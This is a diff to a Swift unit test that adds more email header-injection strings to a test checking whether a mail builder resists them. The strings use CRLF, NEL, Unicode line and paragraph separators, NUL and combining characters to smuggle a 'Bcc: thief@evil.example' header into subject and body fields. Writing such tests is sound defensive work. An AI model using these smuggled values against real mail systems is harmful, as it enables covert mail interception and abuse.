@@ -57,6 +57,9 @@ import Testing
         arguments: [
             "x\r\nBcc: thief@evil.example", "x\nBcc: thief@evil.example", "x\rBcc: thief@evil.example",
             "x\r\n\r\n--=_mixed_1\r\n", "x\u{2028}Bcc: thief@evil.example", "é\r\nBcc: thief@evil.example",
+            "x\u{85}Bcc: thief@evil.example", "x\u{0}Bcc: thief@evil.example", "x\u{2029}Bcc: thief@evil.example",
+            "\u{600}\r\nBcc: thief@evil.example", "x\r\u{301}\nBcc: thief@evil.example",
+            "\"\u{301}\r\n\u{600}Bcc: thief@evil.example", "x\u{B}\u{C}Bcc: thief@evil.example",
         ])
     func resistsInjection(_ attack: String) throws {
         var message = try Sample.message(content: MailContent(subject: HeaderText(attack), text: attack, html: attack))
